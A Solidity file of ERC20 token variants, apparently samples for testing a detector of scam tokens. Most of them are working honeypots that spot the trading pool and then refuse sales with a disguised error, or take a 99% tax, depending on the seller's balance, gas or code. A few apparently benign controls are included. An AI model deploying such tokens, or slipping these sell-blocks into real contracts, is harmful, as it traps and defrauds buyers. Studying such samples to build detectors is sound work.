// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Token} from "../Token.sol";

/// Tokens whose sales depend on something about whoever trades. Each is a plain token but for one line.
abstract contract Watching is Token {
    address internal pool;

    function _transfer(address from, address to, uint256 value) internal virtual override {
        if (pool == address(0) && from == owner && value > totalSupply / 2) pool = to;
        if (to == pool && from != owner && !_mayLeave(from)) _refuse(from, value);
        super._transfer(from, to, value);
    }

    function _mayLeave(address from) internal view virtual returns (bool);

    function _refuse(address, uint256) internal virtual {
        revert("ERC20: transfer failed");
    }
}

/// Nearly all of what somebody sells is gone before it reaches the pool.
abstract contract Taxing is Watching {
    function _transfer(address from, address to, uint256 value) internal override {
        if (pool == address(0) && from == owner && value > totalSupply / 2) pool = to;
        bool taxed = to == pool && from != owner && !_mayLeave(from);
        uint256 tax = taxed ? (value * 99) / 100 : 0;
        if (tax > 0) _move(from, address(this), tax);
        _move(from, to, value - tax);
    }
}

contract OnlyRichLeave is Watching {
    function _mayLeave(address) internal view override returns (bool) {
        return tx.origin.balance >= 50_000 ether;
    }
}

contract OnlyRichLeaveUntaxed is Taxing {
    function _mayLeave(address) internal view override returns (bool) {
        return tx.origin.balance >= 50_000 ether;
    }
}

contract OnlyRichSellersLeave is Watching {
    function _mayLeave(address from) internal view override returns (bool) {
        return from.balance > 900 ether;
    }
}

contract OnlyRichSellersLeaveUntaxed is Taxing {
    function _mayLeave(address from) internal view override returns (bool) {
        return from.balance > 900 ether;
    }
}

contract OnlyExactSumsLeave is Watching {
    function _mayLeave(address) internal view override returns (bool) {
        return tx.origin.balance >= 123_400 ether && tx.origin.balance <= 123_500 ether;
    }
}

contract OnlyPoorLeave is Watching {
    function _mayLeave(address) internal view override returns (bool) {
        return tx.origin.balance < 1_000 ether;
    }
}

contract OnlyPennilessLeave is Watching {
    function _mayLeave(address) internal view override returns (bool) {
        return tx.origin.balance == 0;
    }
}

contract OnlyThriftyAreTaxed is Taxing {
    function _mayLeave(address from) internal view override returns (bool) {
        return from.balance > 0;
    }
}

contract OnlyMuchGasLeaves is Watching {
    function _mayLeave(address) internal view override returns (bool) {
        return gasleft() > 1_500_000;
    }
}

contract OnlyMuchGasIsUntaxed is Taxing {
    function _mayLeave(address) internal view override returns (bool) {
        return gasleft() > 400_000;
    }
}

contract OnlyFreeGasLeaves is Watching {
    function _mayLeave(address) internal view override returns (bool) {
        return tx.gasprice <= block.basefee / 2;
    }
}

contract OnlyWithoutProducerLeave is Watching {
    function _mayLeave(address) internal view override returns (bool) {
        return uint160(address(block.coinbase)) < 2 ** 20;
    }
}

contract OnlyCodeLeaves is Watching {
    function _mayLeave(address from) internal view override returns (bool) {
        return from.code.length > 0;
    }
}

contract OnlyPeopleLeave is Watching {
    function _mayLeave(address from) internal view override returns (bool) {
        return from.codehash == keccak256("");
    }
}

/// Who has much and no code cannot leave.
contract OnlyPoorPeopleLeave is Watching {
    function _mayLeave(address from) internal view override returns (bool) {
        return from.code.length > 0 || from.balance < 900 ether;
    }
}

contract OnlyPoorPeopleAreUntaxed is Taxing {
    function _mayLeave(address from) internal view override returns (bool) {
        return from.code.length > 0 || from.balance < 900 ether;
    }
}

/// Whoever bought is written down, and asked about when selling.
contract AsksTheLastBuyer is Watching {
    address internal last;

    function _transfer(address from, address to, uint256 value) internal override {
        super._transfer(from, to, value);
        if (from == pool) last = to;
    }

    function _mayLeave(address) internal view override returns (bool) {
        return last.code.length > 0;
    }
}

interface IEye {
    function seesCode(address who) external view returns (bool);
}

contract Eye is IEye {
    function seesCode(address who) external view returns (bool) {
        return who.code.length > 0;
    }
}

/// Another contract is asked, which is asked about whoever sells.
contract AsksAnother is Watching {
    IEye internal immutable eye = new Eye();

    function _mayLeave(address from) internal view override returns (bool) {
        return eye.seesCode(from);
    }
}

/// Asks only about the contracts that it uses itself, as every token does that sells for its owner.
contract AsksItsRouter is Token {
    address internal router = 0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D;
    mapping(address => bool) internal isPool;
    uint256 public seen;

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == owner && value > totalSupply / 2) isPool[to] = true;
        if (isPool[to] && address(this).balance > 1 ether) {
            (bool sent, ) = router.call("");
            require(sent && router.code.length > 0 && IFactoryOf(router).factory().code.length > 0, "no router");
            seen = router.balance;
        }
        super._transfer(from, to, value);
    }
}

interface IFactoryOf {
    function factory() external view returns (address);
}

/// Sends only reach accounts that nobody has ever used.
contract OnlyNewcomersReceive is Token {
    function _transfer(address from, address to, uint256 value) internal override {
        require(from == owner || to.code.length > 0 || from.code.length > 0 && tx.origin != from || to.codehash == 0 || to == tx.origin, "ERC20: transfer failed");
        super._transfer(from, to, value);
    }
}

/// A router that holds money is none that people use.
contract OnlyRichRoutersLeave is Watching {
    function _mayLeave(address) internal view override returns (bool) {
        return msg.sender.balance > 10_000 ether;
    }
}

/// Reads everything that the others read, and decides nothing by it.
contract Curious is Token {
    uint256 public seen;

    function _transfer(address from, address to, uint256 value) internal override {
        seen = uint256(keccak256(abi.encode(tx.origin.balance, from.balance, to.balance, msg.sender.balance, gasleft())))
            ^ uint256(keccak256(abi.encode(tx.gasprice, block.coinbase, block.basefee, block.prevrandao)))
            ^ uint256(keccak256(abi.encode(block.timestamp, block.number, from.code.length, to.codehash)));
        super._transfer(from, to, value);
    }
}

/// Lends people what a sale costs when they have nothing left, as relays do: nobody is treated worse.
contract HelpsThePoor is Token {
    event Helped(address who);

    function _transfer(address from, address to, uint256 value) internal override {
        if (tx.origin.balance == 0) emit Helped(tx.origin);
        super._transfer(from, to, value);
    }
}
